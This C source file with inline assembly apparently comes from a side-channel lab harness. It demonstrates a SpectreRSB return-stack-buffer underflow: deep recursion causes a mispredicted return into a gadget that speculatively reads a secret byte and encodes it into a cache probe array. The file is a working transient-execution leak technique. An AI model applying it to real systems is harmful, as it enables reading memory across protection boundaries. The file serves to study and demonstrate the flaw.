/*
 * SpectreRSB by underflow: more returns than the return stack buffer has entries.
 *
 * descend() calls itself DEPTH times, each call pushing the same return address. The buffer is a ring: the returns
 * beyond its 16 entries find old ones, which lead back into descend(). The outermost return goes to its caller, but
 * is predicted to go once more behind the recursive call, where descend() reads through RBX. By then RBX has been
 * restored to what the caller keeps there: the address of the secret, which the caller never reads.
 */
#include "lab.h"

static const char ABOUT[] = "nobody: the caller of descend() only keeps its address";

static u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));

#define DEPTH "40"

/* keep(kept, text): calls descend(text) with `kept` in RBX. */
__asm__("keep:\n\t"
        "push %rbx\n\t"
        "mov %rdi, %rbx\n\t"
        "mov $" DEPTH ", %ecx\n\t"
        "call descend\n\t"
        "pop %rbx\n\t"
        "ret\n"
        /* descend(RSI = text, RCX = depth) */
        "descend:\n\t"
        "push %rbx\n\t"
        "mov %rsi, %rbx\n\t"
        "dec %ecx\n\t"
        "jz 1f\n\t"
        "call descend\n\t"
        "movzbl (%rbx), %eax\n\t"
        "shl $" STRIDE_SHIFT ", %rax\n\t"
        "movzbl probe(%rax), %eax\n"
        "1:\tpop %rbx\n\t"
        "clflush (%rsp)\n\t"
        "mfence\n\t"
        "lfence\n\t"
        "ret");
void keep(const u8 *kept, const u8 *text);

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    ignored[open_text[0]] = 1;
    return 1;
}

static void attempt(u64 index)
{
    touch(secret + index);
    flush_probe();
    keep(secret + index, open_text);
}

static void done(void)
{
}
